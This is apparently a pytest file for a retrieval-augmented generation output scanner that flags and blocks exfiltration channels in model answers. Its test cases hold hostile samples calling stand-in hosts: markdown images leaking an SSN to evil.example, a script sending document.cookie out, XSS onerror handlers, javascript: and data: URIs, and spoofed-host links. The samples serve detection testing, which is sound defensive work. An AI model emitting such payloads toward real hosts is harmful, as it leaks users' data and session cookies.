"""Exfiltration channels: images block, links/HTML/URIs redact, allow-listed hosts pass."""

from __future__ import annotations

import pytest
from ragseal.retrieval._exfil import find_exfiltration, host_allowed

ALLOWED = ("acme.example",)

CASES = [
    # (answer, [(type, exact span, action)])
    ("See ![chart](https://evil.example/p.png?d=SSN-536-22-1234) now",
     [("MARKDOWN_IMAGE", "![chart](https://evil.example/p.png?d=SSN-536-22-1234)", "block")]),
    ('Logo ![x](<https://evil.example/a b.png> "t")',
     [("MARKDOWN_IMAGE", '![x](<https://evil.example/a b.png> "t")', "block")]),
    ("Ref ![a][r]\n\n[r]: https://evil.example/i.png",
     [("MARKDOWN_IMAGE", "[r]: https://evil.example/i.png", "block")]),
    ("Read [this](http://evil.example/?q=1).",
     [("MARKDOWN_LINK", "[this](http://evil.example/?q=1)", "redact")]),
    ("Via [proto-relative](//evil.example/x)",
     [("MARKDOWN_LINK", "[proto-relative](//evil.example/x)", "redact")]),
    ("Spoof [x](https://acme.example@evil.example/)",
     [("MARKDOWN_LINK", "[x](https://acme.example@evil.example/)", "redact")]),
    ("Suffix [x](https://evilacme.example/)",
     [("MARKDOWN_LINK", "[x](https://evilacme.example/)", "redact")]),
    ("Auto <https://evil.example/z> link",
     [("MARKDOWN_LINK", "<https://evil.example/z>", "redact")]),
    ("Go to https://evil.example/a?b=c. Or www.evil.example/x!",
     [("URL", "https://evil.example/a?b=c", "redact"), ("URL", "www.evil.example/x", "redact")]),
    ('<script>fetch("//e.example/?"+document.cookie)</script> ok',
     [("HTML", '<script>fetch("//e.example/?"+document.cookie)</script>', "redact")]),
    ("a <img src=x onerror=alert(1)> b",
     [("HTML", "<img src=x onerror=alert(1)>", "redact")]),
    ('<iframe src="https://e.example"></iframe>',
     [("HTML", '<iframe src="https://e.example"></iframe>', "redact")]),
    ('<div onclick="steal()">hi</div>', [("HTML", '<div onclick="steal()">', "redact")]),
    ("click [x](javascript:alert(1))",
     [("MARKDOWN_LINK", "[x](javascript:alert(1))", "redact")]),
    ("run JavaScript:void(0) now", [("SCRIPT_URI", "JavaScript:void(0)", "redact")]),
    ("embed data:text/html;base64,PHNjcmlwdD4= here",
     [("DATA_URI", "data:text/html;base64,PHNjcmlwdD4=", "redact")]),
    ("[no](mailto:x@evil.example?body=secret)",
     [("MARKDOWN_LINK", "[no](mailto:x@evil.example?body=secret)", "redact")]),
    # near-misses: nothing to find
    ("See ![chart](https://cdn.acme.example/p.png) and [wiki](https://acme.example/w).", []),
    ("Health at https://fleetview.acme.example/api/v2/health.", []),
    ("Relative ![i](/img/x.png) and [doc](docs/a.md).", []),
    ("Contact <PERSON_3f9a2b> at <EMAIL_ADDRESS_2a3568>; SSN <US_SSN>; card "
     "<CREDIT_CARD_****1111>; x <= 5 and y > 3.", []),
    ("The data: figures for Q3, and a [bracketed] note (see above).", []),
    ("[ok](mailto:hr@acme.example)", []),
]


@pytest.mark.parametrize(("answer", "expected"), CASES)
def test_when_answer_scanned_then_channels_found_with_exact_spans(
    answer: str, expected: list[tuple[str, str, str]]
) -> None:
    found = find_exfiltration(answer, ALLOWED)
    assert [(f.type, answer[f.start : f.end], f.action) for f in found] == expected


def test_when_no_host_is_allowed_then_every_absolute_link_is_found() -> None:
    found = find_exfiltration("[wiki](https://acme.example/w)", ())
    assert [f.type for f in found] == ["MARKDOWN_LINK"]


@pytest.mark.parametrize(("url", "ok"), [
    ("https://acme.example/x", True), ("https://docs.acme.example", True),
    ("HTTPS://DOCS.ACME.EXAMPLE./x", True), ("https://acme.example.evil.example", False),
    ("ftp://acme.example/x", False), ("http://[::1]/", False), ("http://[bad", False),
    ("/relative", True), ("//evil.example", False), ("\\\\evil.example\\x", False),
])
def test_when_url_checked_then_only_allowed_hosts_pass(url: str, ok: bool) -> None:
    assert host_allowed(url, ALLOWED) is ok
